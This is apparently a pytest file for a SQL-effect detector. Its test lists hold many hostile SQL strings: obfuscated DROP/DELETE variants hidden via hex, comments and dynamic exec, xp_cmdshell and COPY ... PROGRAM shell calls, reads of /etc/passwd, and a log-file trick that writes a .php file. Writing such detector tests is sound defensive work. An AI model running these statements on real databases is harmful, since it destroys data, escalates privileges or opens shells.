"""SQL is told by what it would do, as the client at hand would read it; data in it never counts."""

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st

from examples import up_to
from guardhouse.detect.acts import UNKNOWN, Scope
from guardhouse.detect.sql import looks_like_sql, read_sql
from guardhouse.detect.sql.clients import CLIENT_COMMANDS
from guardhouse.detect.sql.known import COMMANDS, DROPPED, FILE_STATEMENTS, FUNCTIONS
from guardhouse.model import Confidence, Effect

LOSES = Effect.RUNS_SQL
RAISES = Effect.ESCALATES

DESTROYS = {
    "drop table users": "users",
    "DROP TABLE IF EXISTS a CASCADE": "a",
    'drop table "a b"."c"': "a b.c",
    "drop materialized view v": "v",
    "drop index concurrently i": "i",
    "select 1; drop table x": "x",
    "truncate users": "users",
    "truncate table users restart identity; -- done": "users",
    "delete from t": "t",
    "delete from only t": "t",
    "delete t": "t",
    "delete from `t`": "t",
    "delete from [t]": "t",
    "delete from t using s": "t",
    "delete a from a join b on 1=1": "a",
    "delete from t where 1=1 limit 100000": "t",
    "update t set a=1": "t",
    "update t set a=(select b from c where d=1)": "t",
    "update or ignore t set a=1": "t",
    "with x as (delete from t returning *) select * from x": "t",
    "with x as (select 1) delete from t": "t",
    "with x as (select 1 where true) update t set a = 1 from x": "t",
    "insert overwrite table t select 1": "t",
    "alter table t drop column c": "t",
    "alter table t drop c": "t",
    "alter table if exists only t add x int, drop partition p0": "t",
    "alter table t drop if exists partition (d='1')": "t",
    "alter table t truncate partition p": "t",
    "alter table t delete where 1=1": "t",
    "create or replace schema x": "x",
    "restore database x from disk='/b'": "x",
    "select 1 drop table x": "x",
    "if exists (select 1) drop table x": "x",
    "print 'x' drop table y": "y",
    "waitfor delay '0:0:1' delete from t": "t",
    "begin delete from t; end": "t",
    "if 1=1 begin truncate table t end": "t",
    "DROP/**/TABLE/**/x": "x",
    "drop -- the\ntable x": "x",
    "/*!50000 DROP TABLE x */": "x",
    "/*!DROP*//*!99999 TABLE*/ x": "x",
    "/* /* */ select 1; drop table x; -- */": "x",
    "explain analyze delete from t": "t",
    "explain (analyze, buffers) delete from t": "t",
    "explain (costs off, analyze true) delete from t": "t",
    "execute immediate 'drop table x'": "x",
    "prepare p from 'drop table x'": "x",
    "prepare p as delete from t": "t",
    "set @s = 'drop table x'; prepare p from @s; execute p": "x",
    "set @s = concat('dr', 'op table x'); prepare p from @s": "x",
    "set @s = 0x64726f70207461626c652078; prepare p from @s": "x",
    "set @s = concat(char(100,114,111,112), ' table x'); prepare p from @s": "x",
    "declare @s varchar(99) = 'drop table x'; exec(@s)": "x",
    "exec('drop table x')": "x",
    "exec sp_executesql N'drop table x'": "x",
    "exec sp_executesql @stmt = N'drop table x'": "x",
    "do $$ begin delete from t; end $$": "t",
    "do language plpgsql $x$ begin if true then delete from t; end if; end $x$": "t",
    "do $$ begin execute 'drop ta' || 'ble x'; end $$": "x",
    "do $$ begin execute format('drop table %I', n); end $$": UNKNOWN,
    "do $a$ begin execute $b$ do $c$ begin drop table x; end $c$ $b$; end $a$": "x",
    "select query_to_xml('delete from t', true, true, '')": "t",
    "create procedure p() begin drop table x; end; call p()": "x",
    "create function f() returns void as $$ drop table x $$ language sql; select f()": "x",
    "create event e on schedule every 1 day do delete from t": "t",
    "create temp table x(a int); drop table x; drop table x": "x",
    "begin; create temp table x(a int); rollback; drop table x": "x",
    "drop table if exists x; create table x (a int)": "x",
    "begin; delete from t; commit": "t",
    "begin; delete from t; commit; begin; rollback": "t",
    "begin; \\c\ndelete from t; rollback": "t",
    "begin; delete from t; rollback to s": "t",
    "delimiter //\ncreate procedure p() begin select 1; end//\ndrop table y//": "y",
    "delimiter $$\nselect 1 from a$$\ndrop table y$$": "y",
    "select 1\\; drop table x": "x",
    "\\x \\\\ drop table x": "x",
    "select 1\\Gdrop table x": "x",
    "copy (select 1 from stdin) to stdout;\ndrop table x;\n\\.": "x",
    "select 'it\\'s'; drop table x": "x",
    "select '\\'; drop table x; -- '": "x",
    "\\set q 'drop table t'\n:q;": "t",
    "select 'drop table '||x from y \\gexec": UNKNOWN,
    f"delete from {UNKNOWN}": UNKNOWN,
}

ALWAYS = [
    "1=1",
    "true",
    "1",
    "id = id",
    "t.id = t.id",
    "(((1=1)))",
    "a=2 or 'x'='x'",
    "a=2 or (b=3 or (c=4 or 2>1))",
    "id=5 or 1=1 -- and a = 2",
    "not 1=2",
    "not false",
    "not not 1=1",
    "1+1=2",
    "''=''",
    "1 between 0 and 2",
    "name like '%'",
    "id > 0",
    "id is not null",
    "exists (select 1)",
    "coalesce(null, 1)",
    "length('a') = 1",
    "case when true then 1 else 0 end = 1",
    "2>1 and 'a'<>'b'",
    "1=1 returning *",
    "'true'",
    "t.id = id",
    "cast(1 as bit) = 1",
    "id <> ''",
]

LIMITED = [
    "id = 5",
    "a = 1 and 1=1",
    "1=0",
    "false",
    "null",
    "id in (1, 2)",
    "id between 1 and 5",
    "id = $1",
    "a = ? or b = ?",
    "a = :a",
    "name like 'x%'",
    "deleted_at is not null",
    "created < now() - interval '1 day'",
    "exists (select 1 from s where s.id = t.id)",
    "id in (select id from s)",
    "id > 10",
    "active",
    "not active",
    "a = b",
    "current of c",
    "a = 'b' || '1'",
    "(a, b) in ((1, 2), (3, 4))",
    f"id = {UNKNOWN}",
    f"id = '{UNKNOWN}'",
    f"'{UNKNOWN}' = '1'",
]

HARMLESS = [
    "",
    "select 'drop table x'",
    "select * from t where a = 'DELETE FROM x'; -- drop table y",
    "select $$drop table x$$, $q$ delete from t $q$",
    "select e'it\\'s; drop table x'",
    'select "drop table x"',
    "select 1 /* ; drop table x; */",
    "insert into t values ('drop table x; delete from y')",
    "create table t (a int references b on delete cascade on update set null)",
    "create table if not exists t (a int)",
    "create temp table x as select 1; drop table x",
    "create temporary table x (a int); delete from x; truncate x; drop table if exists x",
    "select * into #x from t; drop table #x",
    "drop temporary table x",
    "explain delete from t",
    "explain (analyze false) delete from t",
    "explain query plan delete from t",
    "begin; delete from t; select count(*) from t; rollback",
    "start transaction; update t set a=1; rollback;",
    "alter table t drop constraint c",
    "alter table t drop foreign key c",
    "alter table t alter column c drop not null",
    "alter table t alter c drop default, add column d int default 0",
    "insert into t(a) values (1) on conflict (a) do update set a = 2",
    "insert into t(a) values (1) on duplicate key update a = 2",
    "select * from t for update",
    "select delete from perms",
    "select update, delete from perms",
    "copy t from stdin;\n1\tdrop table x;\n\\.\nselect 1;",
    "copy t to stdout",
    "\\d t",
    "\\dt\n\\x\nselect 1;",
    ".tables\n.schema t\n.mode csv",
    "create function f() returns trigger as $$ begin delete from t; return null; end $$ language plpgsql",
    "create trigger tr after delete on t begin delete from log; delete from b; end",
    "create policy p on t for delete using (owner = current_user)",
    "delete from t limit 10",
    "delete top (10) from t",
    "delete a from a join b on a.id=b.id",
    "with d as (select id from t where x) delete from t using d where t.id = d.id",
    "select truncate(1.5, 1)",
    "select replace(a, 'x', 'y') from t",
    "merge into t using s on t.id=s.id when matched and s.gone then delete",
    "merge into t using s on t.id=s.id when matched then update set a=1 when not matched then insert values (1)",
    "set search_path = x",
    "prepare p as select 1; execute p",
    "show grants",
    "vacuum analyze t",
    "pragma table_info(t)",
    "attach database ':memory:' as m",
    "select count(*) from t where source = 'a' and host = 'b'",
    "create extension if not exists pgcrypto",
    "drop the idea please",
    "delete the file",
    "update the docs",
    "grant me a wish",
    "use shop; select system from hosts",
]


def acts(text, dialect=""):
    return [(act.effect, act.target) for act in read_sql(text, dialect)]


@pytest.mark.parametrize("text", DESTROYS)
def test_what_would_be_lost_is_named(text):
    assert (LOSES, DESTROYS[text]) in acts(text)


@pytest.mark.parametrize("condition", ALWAYS)
@pytest.mark.parametrize("verb", ["delete from t", "update t set a = 1"])
def test_a_condition_that_holds_for_every_row_is_none(verb, condition):
    assert (LOSES, "t") in acts(f"{verb} where {condition}")


@pytest.mark.parametrize("condition", LIMITED)
@pytest.mark.parametrize("verb", ["delete from t", "update t set a = 1"])
def test_a_condition_that_looks_at_the_row_is_enough(verb, condition):
    assert acts(f"{verb} where {condition}") == []


@pytest.mark.parametrize("text", HARMLESS)
def test_everyday_sql_and_data_are_no_acts(text):
    assert acts(text) == []


@pytest.mark.parametrize("kind", DROPPED)
def test_each_kind_of_thing_can_be_dropped_but_not_by_talking_of_it(kind):
    assert (LOSES, "x") in acts(f"drop {kind} {'by ' if kind == 'OWNED' else ''}x")
    assert acts(f"select 'drop {kind} x'") == []


@pytest.mark.parametrize(
    "text",
    [
        "grant all on t to bob",
        "revoke select on t from bob",
        "create user bob identified by 'x'",
        "create role bob",
        "alter user bob with superuser",
        "alter role bob createdb",
        "alter login bob enable",
        "exec sp_addsrvrolemember 'bob', 'sysadmin'",
        "do $$ begin grant all on t to bob; end $$",
        "begin; grant all on t to bob; rollback; grant all on t to bob",
    ],
)
def test_giving_and_taking_rights_escalates(text):
    assert RAISES in [effect for effect, _ in acts(text)]


@pytest.mark.parametrize("text", ["set password = 'x'", "alter system set a = 1", "\\password bob"])
def test_passwords_and_server_settings_escalate(text):
    assert (RAISES, "") in acts(text)


@pytest.mark.parametrize(
    ("text", "effect", "kind", "target"),
    [
        ("copy t to program 'cat > x'", Effect.EXECUTES, "shell", "cat > x"),
        (
            "copy t (a, b) from program 'curl example.com' with (format csv)",
            Effect.EXECUTES,
            "shell",
            "curl example.com",
        ),
        ("\\copy (select 1) to program 'sh'", Effect.EXECUTES, "shell", "sh"),
        ("\\copy t from ../x.csv csv", Effect.READS, "path", "../x.csv"),
        ("select 1 \\g | sh -s", Effect.EXECUTES, "shell", "sh -s"),
        ("select 1\n\\! ls 'a b'", Effect.EXECUTES, "shell", "ls 'a b'"),
        ("\\set x `id`", Effect.EXECUTES, "shell", "id"),
        ('.import "|sh -c x" t', Effect.EXECUTES, "shell", "sh -c x"),
        ("select 1;\n.shell ls -l", Effect.EXECUTES, "shell", "ls -l"),
        ("exec master..xp_cmdshell 'dir c:'", Effect.EXECUTES, "shell", "dir c:"),
        ("EXEC [master].[dbo].[xp_cmdshell] 'dir'", Effect.EXECUTES, "shell", "dir"),
        ("xp_cmdshell 'dir'", Effect.EXECUTES, "shell", "dir"),
        ("declare @c varchar(9) = 'dir'; exec xp_cmdshell @c", Effect.EXECUTES, "shell", "dir"),
        ("copy t from '/etc/passwd'", Effect.READS, "path", "/etc/passwd"),
        ("copy (select 1) to '/tmp/x'", Effect.WRITES, "path", "/tmp/x"),
        ("copy t to 's3://example/x'", Effect.SENDS, "url", "s3://example/x"),
        ("unload ('select 1') to 's3://example/x'", Effect.SENDS, "url", "s3://example/x"),
        ("select * into outfile '/tmp/x' from t", Effect.WRITES, "path", "/tmp/x"),
        ("select 'x' into dumpfile '/tmp/x'", Effect.WRITES, "path", "/tmp/x"),
        ("set global general_log_file = '/srv/x.php'", Effect.WRITES, "path", "/srv/x.php"),
        ("select load_file(0x2f6574632f706173737764)", Effect.READS, "path", "/etc/passwd"),
        ("select 1 union select pg_read_file('/etc/' || 'passwd')", Effect.READS, "path", "/etc/passwd"),
        ("select pg_read_file(name) from files", Effect.READS, "path", UNKNOWN),
        ("load data local infile '/x' into table t", Effect.READS, "path", "/x"),
        ("load '/x.so'", Effect.EXECUTES, "program", "/x.so"),
        ("attach database 'x.db' as y", Effect.WRITES, "path", "x.db"),
        ("vacuum into 'x.db'", Effect.WRITES, "path", "x.db"),
        ("backup database d to disk = '/x.bak'", Effect.WRITES, "path", "/x.bak"),
        ("create function f() returns int language plpython3u as $$import x$$", Effect.EXECUTES, "python", "import x"),
        ("create function f() returns int as '/x.so', 'f' language c", Effect.EXECUTES, "program", "/x.so"),
        ("create function f returns string soname 'x.so'", Effect.EXECUTES, "program", "x.so"),
        ("do language plpythonu 'import x'", Effect.EXECUTES, "python", "import x"),
    ],
)
def test_what_leaves_the_database_is_said_with_its_target(text, effect, kind, target):
    assert (effect, kind, target) in [(act.effect, act.kind, act.target) for act in read_sql(text)]


def test_sql_for_another_server_is_read_and_said_to_be_remote():
    found = read_sql("select dblink('host=db.example.com', 'drop table y')")
    assert [(act.target, act.scope) for act in found if act.effect is LOSES] == [("y", Scope.REMOTE)]


@pytest.mark.parametrize("row", COMMANDS, ids=lambda row: row.words)
def test_each_command_to_the_server_is_seen_in_its_example_and_not_in_a_sentence(row):
    assert (LOSES, row.what) in [(act.effect, act.what) for act in read_sql(row.example)]
    assert read_sql(f"please {row.example}") == ()


@pytest.mark.parametrize("row", FILE_STATEMENTS, ids=lambda row: row.verb)
def test_each_statement_that_uses_a_file_is_seen_in_its_example_and_not_in_a_string(row):
    assert read_sql(row.example)[0].effect in (row.effect, Effect.SENDS)
    assert read_sql("select '" + row.example.replace("'", "''") + "'") == ()


@pytest.mark.parametrize("row", FUNCTIONS, ids=lambda row: row.name)
def test_each_function_is_seen_in_its_example_and_not_in_a_string(row):
    found = read_sql(row.example)
    assert row.effect in [act.effect for act in found]
    assert read_sql("select '" + row.example.replace("'", "''") + "'") == ()


@pytest.mark.parametrize("row", CLIENT_COMMANDS, ids=lambda row: f"{row.client} {row.names}")
def test_each_command_of_a_client_is_seen_and_its_harmless_neighbour_is_not(row):
    assert read_sql(row.example, row.client) != ()
    assert read_sql(row.harmless, row.client) == ()


@pytest.mark.parametrize(
    ("text", "dialect", "seen"),
    [
        ("select '\\'; drop table x; -- '", "psql", True),
        ("select '\\'; drop table x; -- '", "mysql", False),
        ("select 1 # ; drop table x", "mysql", False),
        ("/*! drop table x */", "mysql", True),
        ("/*! drop table x */", "psql", False),
        ("/* /* */ drop table x -- */", "mysql", True),
        ("/* /* */ drop table x -- */ */", "psql", False),
        ("select 1--1; drop table x", "mysql", True),
        ("select [a; drop table x;]", "sqlcmd", False),
        ("select 1 alter table t drop column c", "sqlcmd", True),
        ("select 1 create login bob with password = 'x'", "sqlcmd", True),
        ("select 1\nGO\ndrop table x\nGO", "sqlcmd", True),
        ("select 1;\ngo\ndrop table x", "sqlcmd", True),
        ("commit drop table x", "sqlcmd", True),
        ("rollback drop table x", "sqlcmd", True),
        (".sys x", "sqlite3", True),
        (".sho", "sqlite3", False),
        ("select q'[it's; drop table x]' from dual", "oracle", False),
        ("select r'\\'; drop table x", "bq", True),
        ("select q'['; drop table x; --]'", "psql", True),
        ("select e'\\'; drop table x; --'", "sqlite3", True),
        ("select e'\\'; drop table x; --'", "psql", False),
        ("begin; drop table t; rollback", "psql", False),
        ("begin; drop table t; rollback", "mysql", True),
        ("begin; drop table t; rollback", "", True),
        (".shell x", "psql", False),
        ("\\! x", "sqlite3", False),
        ("create procedure p() begin select 1; drop table x; end", "mysql", True),
    ],
)
def test_text_is_cut_as_the_client_at_hand_cuts_it(text, dialect, seen):
    assert bool(read_sql(text, dialect)) is seen


def test_an_act_says_where_it_was_seen_and_what_would_be_safer():
    text = "select 1; delete from t where 1=1; select 2"
    (act,) = read_sql(text, "psql")
    assert text[act.start : act.end] == "delete from t where 1=1"
    assert "WHERE" in act.instead
    assert act.certainty is Confidence.HIGH


def test_what_only_one_way_of_cutting_shows_is_seen_with_less_certainty():
    (act,) = read_sql("select '\\'';drop table x;/*'")
    assert (act.target, act.certainty) == ("x", Confidence.LOW)


def test_a_guess_about_key_columns_is_less_certain():
    (act,) = read_sql("delete from t where id > 0")
    assert act.certainty is Confidence.MEDIUM


@pytest.mark.parametrize("text", ["prepare p from @unknown", "execute immediate q", UNKNOWN])
def test_sql_that_only_the_run_would_show_is_said_to_be_that(text):
    assert [act.effect for act in read_sql(text)] == [Effect.UNANALYSABLE]


@pytest.mark.parametrize(
    "text",
    [
        *("select * from t", "select 1", "drop table x", "-- c\ndelete from t", "with a as (select 1) select * from a"),
        *("update t set a = 1", "insert into t values (1)", "begin; select 1", "grant all on t to b"),
    ],
)
def test_sql_looks_like_sql(text):
    assert looks_like_sql(text)


@pytest.mark.parametrize(
    "text",
    [
        *("", "select a file", "drop the idea", "update the docs", "delete everything", "with love", "ls -l", "hello"),
        *("insert coin", "copy a to b", "{}", "grant me a wish", "explain this to me", "create a plan"),
    ],
)
def test_sentences_do_not_look_like_sql(text):
    assert not looks_like_sql(text)


PIECES = (
    "drop table delete from t where update set alter truncate grant to create function as begin end ; ;\n ( ) , . = "
    "' \" ` [ ] $$ $a$ -- # /* */ /*! \\ \\! \\g \\copy | .shell .import system delimiter // @a := :q 'x' 1 or and not "
    "between case when then exec execute immediate prepare dblink( load_file( xp_cmdshell concat( format( merge into "
    "explain analyze copy program declare do language c limit top join on in like id is null \0 é 0x64 q'[ e' N' "
    "rollback commit temp or replace user event values"
).split(" ")


@settings(max_examples=up_to(300), deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=60), st.sampled_from(["", " ", "\n"]), st.sampled_from(DIALECTS := [
    "", "psql", "mysql", "sqlite3", "sqlcmd", "bq", "snowsql", "duckdb", "clickhouse-client", "oracle", "nonsense",
]))  # fmt: skip
def test_no_text_makes_the_reader_fail(pieces, between, dialect):
    text = between.join(pieces)
    for act in read_sql(text, dialect):
        assert 0 <= act.start <= act.end <= len(text)
    looks_like_sql(text)


@settings(max_examples=up_to(150), deadline=None)
@given(st.text(max_size=200))
def test_no_characters_make_the_reader_fail(text):
    for acts in (read_sql("drop " + text), read_sql("delete from t where " + text), read_sql("\\" + text, "psql")):
        assert all(act.effect in Effect for act in acts)


def test_another_parser_sees_no_loss_that_this_one_does_not(caplog):
    """sqlglot is an independent reader: what it says drops, truncates or deletes without WHERE must be seen here."""
    caplog.set_level("CRITICAL", logger="sqlglot")
    names = {"psql": "postgres", "mysql": "mysql", "sqlite": "sqlite", "sqlcmd": "tsql", "duckdb": "duckdb"}
    texts = [*DESTROYS, *HARMLESS, *(f"delete from t where {one}" for one in LIMITED + ALWAYS)]
    # It knows neither temporary tables nor ROLLBACK, and cuts routines at their first semicolon.
    beyond_it = ("temp", "#", "rollback", "explain", "trigger", "function")
    for text in (one for one in texts if not any(word in one for word in beyond_it)):
        for dialect, name in names.items():
            try:
                trees = sqlglot.parse(text, dialect=name)
            except sqlglot.errors.SqlglotError:
                continue
            if any(_loses(sqlglot.exp, tree) for tree in trees if tree is not None):
                assert LOSES in [effect for effect, _ in acts(text, dialect)], (text, dialect)


def _loses(exp, tree):
    if isinstance(tree, exp.Create):
        return False
    if any(True for _ in tree.find_all(exp.Drop, exp.TruncateTable)):
        return not isinstance(tree, exp.Alter)
    found = tree.find(exp.Delete)
    bounded = found is None or any(found.args.get(key) for key in ("where", "limit", "tables", "using"))
    return not bounded and not isinstance(tree, exp.Merge) and "top" not in tree.sql().lower()
